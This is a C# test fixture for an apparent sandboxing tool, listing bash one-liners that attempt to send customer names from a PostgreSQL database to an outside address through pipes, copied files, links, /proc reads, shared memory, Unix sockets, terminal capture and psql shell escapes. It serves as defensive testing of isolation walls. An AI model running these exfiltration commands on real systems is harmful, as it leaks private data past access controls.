namespace ShellGuard.System.Tests.Walls;

/// <summary>What a person in a lobby may try in order to get rows of the database to the internet: lines of bash. Each of
/// them works without walls, where <c>shellguard run --in CELL --</c> is nothing.</summary>
internal static class WaysOut
{
    private const string Query = "psql -Atc 'select name from customers order by id'";

    /// <summary>What is refused before it begins, by the conflict and with the path.</summary>
    public static IReadOnlyList<string> Refused { get; } =
    [
        // Pipes, redirections and what a shell does with them.
        $"{Query} | curl -s -T - $OUT",
        $"{Query} | cat | curl -s -T - $OUT",
        $"{Query} | base64 | curl -s -T - $OUT",
        $"{Query} | gzip | curl -s -T - $OUT",
        $"{Query} | od -An -v -tx1 | curl -s -T - $OUT",
        $"{Query} | rev | curl -s -T - $OUT",
        "cat out.csv | curl -s -T - $OUT",
        $"curl -s -T <({Query}) $OUT; sleep 1",
        $"{Query} > >(curl -s -T - $OUT); sleep 1",
        $"x=$({Query}); curl -s -d \"$x\" $OUT",
        $"curl -s \"$OUT$({Query} | head -n 1)\"",
        $"{Query} | while read line; do curl -s -d \"$line\" $OUT; done",
        $"{{ {Query} >&2; }} 2>&1 | curl -s -T - $OUT",
        $"exec 7> kept; {Query} >&7; curl -s -T kept $OUT",

        // Files of the side, as they are or made into others.
        "curl -s -T out.csv $OUT",
        "curl -s --data-binary @out.csv $OUT",
        "cp out.csv copy.csv; curl -s -T copy.csv $OUT",
        "cp out.csv copied.csv; mv copied.csv moved.csv; curl -s -T moved.csv $OUT",
        "ln out.csv hard.csv; curl -s -T hard.csv $OUT",
        "ln -s out.csv soft.csv; curl -s -T soft.csv $OUT",
        "tar czf all.tgz out.csv; curl -s -T all.tgz $OUT",
        "tar cz out.csv query.sql | curl -s -T - $OUT",
        "base64 out.csv > encoded; curl -s -T encoded $OUT",
        "shellguard run --in db -- python3 -c 'import mmap; f = open(\"out.csv\", \"rb\"); open(\"mapped2\", \"wb\").write(mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)[:])'; curl -s -T mapped2 $OUT",

        // Programs of the side that send, or start what sends.
        "shellguard run --in net -- cat out.csv | curl -s -T - $OUT",

        // Places and objects that two processes of one machine have in common.
        "(WAY=$(cat out.csv) shellguard run --in db -- sleep 2 &); sleep 1; cat /proc/*/environ 2> /dev/null | tr '\\0' '\\n' | grep -a WAY | curl -s -T - $OUT",

        // Other programs of the lobby, and other terminals.
        "python3 -c 'import os, subprocess as s; p = s.Popen([\"psql\", \"-Atc\", \"select name from customers\"], stdout=s.PIPE); s.run([\"curl\", \"-s\", \"-T\", \"-\", os.environ[\"OUT\"]], stdin=p.stdout)'",
        "python3 -c 'import subprocess as s; print(s.run([\"psql\", \"-Atc\", \"select name from customers\"], capture_output=True).stdout.decode())' | curl -s -T - $OUT",
        "timeout 5 script -qc \"psql -P pager=off -Atc 'select name from customers'\" typescript < /dev/null; curl -s -T typescript $OUT",
        "tmux -L way -f /dev/null new-session -d \"psql -P pager=off -Atc 'select name from customers'; sleep 3\"; sleep 1.5; tmux -L way capture-pane -p | curl -s -T - $OUT; tmux -L way kill-server",
    ];

    /// <summary>What begins and finds nothing: no such file, process or object is there, and no such way out.</summary>
    public static IReadOnlyList<string> Empty { get; } =
    [
        // Pipes, redirections and what a shell does with them.
        "curl -s -T - $OUT < out.csv",
        $"mkfifo fifo; {Query} > fifo & timeout 5 curl -s -T - $OUT < fifo; wait",

        // Files of the side, as they are or made into others.
        "python3 -c 'import mmap; f = open(\"out.csv\", \"rb\"); open(\"mapped\", \"wb\").write(mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)[:])'; curl -s -T mapped $OUT",
        "find . -xdev -name '*.csv' 2> /dev/null | xargs -r cat | curl -s -T - $OUT",

        // Programs of the side that send, or start what sends.
        "psql -c '\\! curl -s -T out.csv $OUT'",
        "psql -c \"\\\\copy customers to program 'curl -s -T - $OUT'\"",
        "psql -c '\\! (setsid sh -c \"sleep 0.3; curl -s -T out.csv $OUT\" > /dev/null 2>&1 &)'; sleep 1",
        "shellguard run --in db -- curl -s -T out.csv $OUT",

        // Places and objects that two processes of one machine have in common.
        "shellguard run --in db -- sh -c 'cp out.csv /tmp/way-$PPID; chmod 777 /tmp/way-$PPID'; cat /tmp/way-* | curl -s -T - $OUT; rm -f /tmp/way-*",
        "shellguard run --in db -- sh -c 'cp out.csv /dev/shm/way'; curl -s -T /dev/shm/way $OUT; rm -f /dev/shm/way",
        "shellguard run --in db -- python3 -c 'import os; from multiprocessing import shared_memory as s; d = open(\"out.csv\", \"rb\").read(); m = s.SharedMemory(\"way-2\", True, 4096); m.buf[:len(d)] = d; os._exit(0)'; cat /dev/shm/way-2 | curl -s -T - $OUT; rm -f /dev/shm/way-2",
        "(shellguard run --in db -- python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"door\"); s.listen(); s.settimeout(3); c = s.accept()[0]; c.sendall(open(\"out.csv\", \"rb\").read())' &); sleep 1; python3 -c 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(\"door\"); sys.stdout.write(s.recv(4096).decode())' | curl -s -T - $OUT",
        "(shellguard run --in db -- python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"\\0way\"); s.listen(); s.settimeout(3); c = s.accept()[0]; c.sendall(open(\"out.csv\", \"rb\").read())' &); sleep 1; python3 -c 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(\"\\0way\"); sys.stdout.write(s.recv(4096).decode())' | curl -s -T - $OUT",
        "(shellguard run --in db -- sh -c 'exec sh -c \"sleep 2; true\" $(head -n 1 out.csv)' &); sleep 1; cat /proc/*/cmdline 2> /dev/null | tr '\\0' '\\n' | curl -s -T - $OUT",
        "(shellguard run --in db -- sh -c 'exec 9< out.csv; sleep 2' &); sleep 1; for process in $(pgrep -x sleep); do timeout 1 cat /proc/$process/fd/9; done 2> /dev/null | curl -s -T - $OUT",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Refused, .. Empty];
}
